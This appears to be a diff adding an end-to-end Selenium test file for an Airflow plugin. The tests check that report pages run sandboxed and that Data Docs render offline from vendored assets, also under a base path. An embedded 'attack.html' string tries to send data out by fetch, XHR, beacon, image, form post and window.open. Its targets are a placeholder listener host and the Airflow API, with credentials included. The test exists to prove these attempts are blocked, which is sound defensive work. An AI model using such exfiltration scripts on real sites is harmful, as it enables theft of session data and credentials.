@@ -1,0 +1,204 @@
+"""Report pages cannot call out, and Data Docs render offline: headless Chromium, logged in to an Airflow api-server.
+
+Over a run whose reports are real Data Docs (:func:`~tests.orchestration.report_runs.data_docs_batch`)
+plus ``attack.html``, a report file whose script tries every way out the brief names: fetch and
+XHR to a loopback listener and to Airflow's API (absolute and relative), a beacon, an image, a form
+posted to the listener, ``window.open``. The browser resolves no host but loopback, so a page that
+still named a CDN would log a failed load. A second api-server serves below ``/airflow`` (``[api]
+base_url`` with a path): the run's report tab, the batches page and their links stay below it.
+"""
+
+from __future__ import annotations
+
+import threading
+import time
+
+import pytest
+
+from .browser import api_server, chromium, sign_in
+from .report_runs import DOCS_INDEX, Listener, data_docs_batch, register_run, sync_dags
+
+pytestmark = [pytest.mark.e2e, pytest.mark.slow]
+DAG_ID, RUN_ID, BATCH_ID = "rollout_batch", "manual__report-offline", "report-offline-batch"
+ATTACK = """<!doctype html><title>attack</title>
+<form id="form" method="post" action="LISTENER/form"><input name="stolen" value="1"></form>
+<script>
+const outcome = (promise) => promise.then((r) => "status " + r.status, (e) => e.name);
+const xhr = (url) => new Promise((done) => {
+  const request = new XMLHttpRequest();
+  request.onload = () => done("status " + request.status);
+  request.onerror = () => done("error");
+  try { request.open("GET", url); request.send(); } catch (e) { done(e.name); }
+});
+const seen = {origin: self.origin};
+navigator.sendBeacon("LISTENER/beacon", "x");  // queued (true), then refused: only the listener can tell
+try { seen.open = String(window.open("LISTENER/open")); } catch (e) { seen.open = e.name; }
+new Image().src = "LISTENER/image";
+Promise.all([
+  outcome(fetch("LISTENER/fetch", {method: "POST", body: "x"})),
+  outcome(fetch("API/api/v2/dags", {credentials: "include"})),
+  outcome(fetch("/api/v2/dags")),
+  xhr("LISTENER/xhr"),
+  xhr("API/api/v2/dags"),
+]).then(([fetchOut, fetchApi, fetchRelative, xhrOut, xhrApi]) => {
+  window.SEEN = Object.assign(seen, {fetchOut, fetchApi, fetchRelative, xhrOut, xhrApi});
+});
+</script>
+"""
+# What the attack page saw: an opaque origin where every request failed and no window opened.
+BLOCKED = {
+    "origin": "null",
+    "open": "null",
+    "fetchOut": "TypeError",
+    "fetchApi": "TypeError",
+    "fetchRelative": "TypeError",
+    "xhrOut": "error",
+    "xhrApi": "error",
+}
+STYLED = """
+const icon = document.querySelector('.fas, .fa');
+return {
+  jquery: typeof window.jQuery, table: typeof (window.jQuery && jQuery.fn.bootstrapTable),
+  font: getComputedStyle(document.body).fontFamily,
+  navbar: getComputedStyle(document.querySelector('nav.navbar')).display,
+  container: getComputedStyle(document.querySelector('.container-fluid')).paddingLeft,
+  iconFont: icon && getComputedStyle(icon, '::before').fontFamily,
+  iconLoaded: document.fonts.check('900 16px "Font Awesome 6 Free"'),
+  loaded: performance.getEntriesByType('resource').map((entry) => entry.name),
+};
+"""
+
+
+@pytest.fixture(scope="module")
+def listener():
+    server = Listener()
+    thread = threading.Thread(target=server.serve_forever, daemon=True)
+    thread.start()
+    yield server
+    server.shutdown()
+    server.server_close()
+
+
+@pytest.fixture(scope="module")
+def offline_run(airflow_db, api_server_url, listener, tmp_path_factory) -> str:
+    """The run's ``reports/`` address on the session's api-server."""
+    root = tmp_path_factory.mktemp("report-offline")
+    reports = data_docs_batch(root, BATCH_ID)
+    (reports / "attack.html").write_text(ATTACK.replace("LISTENER", listener.url).replace("API", api_server_url))
+    sync_dags()
+    register_run(DAG_ID, RUN_ID, {"batch_id": BATCH_ID, "storage_url": f"file://{root}", "storage_conn_id": None})
+    return f"{api_server_url}/rollout-ledger/dags/{DAG_ID}/runs/{RUN_ID}/reports/"
+
+
+def problems(browser) -> list[str]:
+    """What the console logged at SEVERE since the last call: failed loads, blocked requests, script errors."""
+    return [entry["message"] for entry in browser.get_log("browser") if entry["level"] == "SEVERE"]
+
+
+def clicked(by: str, selector: str):
+    """A wait condition: the first element found is clicked (again, while the table is still being drawn)."""
+    from selenium.common.exceptions import ElementNotInteractableException, StaleElementReferenceException
+
+    def click(browser) -> bool:
+        try:
+            found = browser.find_elements(by, selector)
+            return bool(found) and found[0].click() is None
+        except (StaleElementReferenceException, ElementNotInteractableException):
+            return False
+
+    return click
+
+
+def test_a_report_script_cannot_fetch_post_or_open_a_window(offline_run, api_server_url, listener):
+    from selenium.webdriver.support.ui import WebDriverWait
+
+    browser = chromium()
+    wait = WebDriverWait(browser, 60)
+    try:
+        sign_in(browser, api_server_url)
+        browser.get(offline_run + "attack.html")
+        assert wait.until(lambda b: b.execute_script("return window.SEEN")) == BLOCKED
+        page = browser.current_url
+        assert "/signed/" in page
+        browser.execute_script("document.getElementById('form').submit()")
+        browser.execute_script("document.getElementById('form').requestSubmit()")
+        time.sleep(2)
+        assert browser.current_url == page and len(browser.window_handles) == 1  # no post, no window
+        assert browser.execute_script("return window.SEEN.origin") == "null"  # still the same document
+        logged = " ".join(problems(browser))
+        assert "Content Security Policy" in logged and "allow-forms" in logged  # blocked, not failed
+    finally:
+        browser.quit()
+    time.sleep(1)
+    assert listener.heard == []  # nothing left the page: no fetch, XHR, beacon, image, form or window
+
+
+def test_data_docs_render_with_their_vendored_styles_and_load_nothing_from_elsewhere(offline_run, api_server_url):
+    from selenium.webdriver.common.by import By
+    from selenium.webdriver.support.ui import WebDriverWait
+
+    browser = chromium()
+    wait = WebDriverWait(browser, 60)
+    try:
+        sign_in(browser, api_server_url)
+        problems(browser)
+        browser.get(offline_run + DOCS_INDEX)
+        # the index's lists are drawn by the vendored bootstrap-table: a suite's link, a validation's row
+        wait.until(clicked(By.CSS_SELECTOR, "table a[href*='expectations/']"))
+        wait.until(lambda b: b.current_url.endswith("/lineage/run-000/expectations/lineage/calls.html"))
+        browser.back()
+        wait.until(clicked(By.XPATH, "//td[normalize-space()='run-000']"))
+        wait.until(lambda b: "/lineage/run-000/validations/lineage/calls/run-000/" in b.current_url)
+        wait.until(lambda b: b.execute_script("return document.fonts.status") == "loaded")
+        styled = browser.execute_script(STYLED)
+        assert (styled["jquery"], styled["table"]) == ("function", "function")
+        assert styled["font"].startswith("-apple-system")  # Bootstrap's reboot, not the browser's serif
+        assert (styled["navbar"], styled["container"]) == ("flex", "48px")  # Bootstrap's .navbar; GX's pl-5
+        assert "Font Awesome 6 Free" in styled["iconFont"] and styled["iconLoaded"]  # the failed-check icon
+        origin = api_server_url + "/"
+        assert len(styled["loaded"]) >= 10 and all(name.startswith(origin) for name in styled["loaded"])
+        assert any("/static/vendor/bootstrap/bootstrap.min.css" in name for name in styled["loaded"])
+        assert problems(browser) == []  # no failed load, no blocked request, no script error on any page
+    finally:
+        browser.quit()
+
+
+@pytest.fixture(scope="module")
+def airflow_below_a_path(airflow_db, offline_run, tmp_path_factory):
+    """A second api-server of this Airflow whose ``[api] base_url`` is ``http://127.0.0.1:<port>/airflow/``."""
+    with api_server(tmp_path_factory.mktemp("api-server-path") / "api-server.log", base_path="/airflow") as url:
+        yield url
+
+
+def test_reports_and_the_batches_page_stay_below_the_api_servers_base_path(airflow_below_a_path):
+    from selenium.webdriver.common.by import By
+    from selenium.webdriver.support.ui import WebDriverWait
+
+    url = airflow_below_a_path
+    reports = f"{url}/rollout-ledger/dags/{DAG_ID}/runs/{RUN_ID}/reports/"
+    browser = chromium()
+    wait = WebDriverWait(browser, 60)
+    try:
+        sign_in(browser, url)
+        browser.get(f"{url}/dags/{DAG_ID}/runs/{RUN_ID}")
+        wait.until(lambda b: b.find_elements(By.LINK_TEXT, "Validation report")).pop().click()
+        frame = wait.until(lambda b: b.find_elements(By.TAG_NAME, "iframe"))[0]
+        assert frame.get_attribute("src") == reports
+        browser.switch_to.frame(frame)
+        wait.until(lambda b: b.find_elements(By.PARTIAL_LINK_TEXT, "Data Docs")).pop().click()
+        wait.until(lambda b: b.execute_script("return location.pathname").endswith(DOCS_INDEX))
+        assert browser.execute_script("return location.pathname").startswith("/airflow/rollout-ledger/")
+        wait.until(lambda b: b.find_elements(By.CSS_SELECTOR, "table a[href*='expectations/']"))  # scripts ran
+        browser.switch_to.default_content()
+
+        browser.get(f"{url}/plugin/rollout-batches")
+        frame = wait.until(lambda b: b.find_elements(By.TAG_NAME, "iframe"))[0]
+        assert frame.get_attribute("src") == f"{url}/rollout-ledger/batches"
+        browser.switch_to.frame(frame)
+        link = wait.until(lambda b: b.find_elements(By.CSS_SELECTOR, f"a[href*='{RUN_ID}']"))[0]
+        assert link.get_attribute("href") == reports  # the base href: below /airflow
+        link.click()
+        wait.until(lambda b: b.find_elements(By.TAG_NAME, "h1"))
+        assert browser.execute_script("return location.pathname").startswith("/airflow/rollout-ledger/dags/")
+    finally:
+        browser.quit()
